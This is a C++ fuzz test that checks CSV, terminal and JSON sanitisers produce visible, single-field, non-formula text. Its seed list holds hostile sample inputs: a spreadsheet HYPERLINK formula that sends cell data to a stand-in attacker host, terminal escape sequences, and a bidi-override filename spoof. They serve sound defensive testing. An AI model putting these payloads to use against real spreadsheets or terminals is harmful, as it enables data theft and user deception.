// Any bytes as text for CSV, a terminal or JSON. The result is one line, one field for an RFC 4180
// reader, and never a spreadsheet formula. Any bytes as a CSV file.

#include "fuzz.h"
#include "shared/base/csv.h"
#include "shared/base/csv_reader.h"
#include "shared/base/json.h"
#include "shared/base/utf8.h"
#include "shared/base/visible_text.h"

namespace {

/// Parses the only field of a line by RFC 4180.
std::string read_field(std::string_view field) {
  if (!field.starts_with('"')) {
    require(field.find_first_of(",\"") == std::string_view::npos);
    return std::string(field);
  }
  std::string text;
  require(field.size() >= 2 && field.back() == '"');
  field = field.substr(1, field.size() - 2);
  for (std::size_t i = 0; i < field.size(); ++i) {
    if (field[i] == '"') require(++i < field.size() && field[i] == '"');
    text += field[i];
  }
  return text;
}

void require_visible(std::string_view text) {
  for (std::size_t at = 0; at < text.size();) {
    const char32_t code = boxoffice::next_code_point(text, at);
    require(code >= 0x20 && !(code >= 0x7F && code < 0xA0));
    require(!(code >= 0x2028 && code <= 0x202E) && !(code >= 0x2066 && code <= 0x2069));
  }
}

}  // namespace

void fuzz_one(std::string_view bytes) {
  using namespace boxoffice;
  const std::string shown = visible_text(bytes);
  require_visible(shown);
  require(visible_text(shown) == shown);
  const std::string text = read_field(csv_text(bytes));
  require(text == shown || text == "'" + shown);
  const Result<std::vector<CsvRecord>> read = parse_csv(csv_text(bytes) + ",");
  require(read.ok() && read->size() == 1 &&
          read->front().fields == std::vector{text, std::string()});
  if (const auto records = parse_csv(bytes)) {
    for (const CsvRecord& record : *records) require(record.line > 0 && !record.fields.empty());
  }
  const std::size_t start = text.find_first_not_of(' ');
  require(start == std::string::npos ||
          std::string_view("=+-@").find(text[start]) == std::string_view::npos);
  const std::string guarded = guard_csv(bytes);
  require(guard_csv(guarded) == guarded);
  const std::string json =
      Json(shown + std::string(bytes)).dump(-1, ' ', false, Json::error_handler_t::replace);
  require_visible(visible_json(json));
  require(Json::parse(visible_json(json)) == Json::parse(json));
}

std::vector<std::string> fuzz_seeds() {
  return {"=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")", "\t@midnight, \"quoted\"",
          "\x1b]0;owned\x07\x1b[2J\xc2\x9b"
          "31m",
          "bidi \u202efdp.exe\r\n-30-", "  ＝1"};
}
